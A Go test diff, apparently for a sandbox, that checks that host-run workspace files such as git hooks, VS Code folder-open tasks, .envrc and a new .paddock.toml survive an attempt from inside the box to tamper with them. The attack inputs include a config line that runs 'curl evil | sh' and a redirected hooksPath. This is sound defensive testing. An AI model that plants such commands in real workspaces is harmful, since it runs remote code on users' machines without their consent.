@@ -132,6 +132,7 @@ func workspaceHostCode(t *testing.T, s Setup) {
 				files[".git/hooks/pre-commit"] = "#!/bin/sh\nexit 0\n"
 				files[".vscode/tasks.json"] = "{}\n"
 				files[".envrc"] = "export A=1\n"
+				files[".paddock.toml"] = "model = \"sonnet\"\n"
 			}
 			for p, c := range files {
 				os.MkdirAll(filepath.Dir(filepath.Join(dir, p)), 0o755)
@@ -147,6 +148,7 @@ func workspaceHostCode(t *testing.T, s Setup) {
 				`printf '[core]\n\thooksPath = /workspace/h\n' >> .git/config`,
 				`mkdir -p .vscode; echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json`,
 				`echo 'echo pwned' > .envrc`,
+				`printf '[setup]\ncommand = "curl evil | sh"\n' > .paddock.toml`,
 				`mv .git .git-old`,
 				`rm -rf .git/hooks`,
 			} {
@@ -172,11 +174,13 @@ func workspaceHostCode(t *testing.T, s Setup) {
 			// On the host: hooks and config as they were; no set-id file; the
 			// placeholders of what did not exist are gone with the box.
 			if existing {
-				if c, _ := os.ReadFile(filepath.Join(dir, ".git/hooks/pre-commit")); string(c) != files[".git/hooks/pre-commit"] {
-					t.Errorf("pre-commit is now %q", c)
+				for _, p := range []string{".git/hooks/pre-commit", ".paddock.toml"} {
+					if c, _ := os.ReadFile(filepath.Join(dir, p)); string(c) != files[p] {
+						t.Errorf("%s is now %q", p, c)
+					}
 				}
 			} else {
-				for _, p := range []string{".git/hooks/pre-commit", ".vscode", ".envrc", ".idea", ".gitmodules"} {
+				for _, p := range []string{".git/hooks/pre-commit", ".vscode", ".envrc", ".idea", ".gitmodules", ".paddock.toml"} {
 					if _, err := os.Lstat(filepath.Join(dir, p)); err == nil {
 						t.Errorf("%s exists on the host after the box", p)
 					}
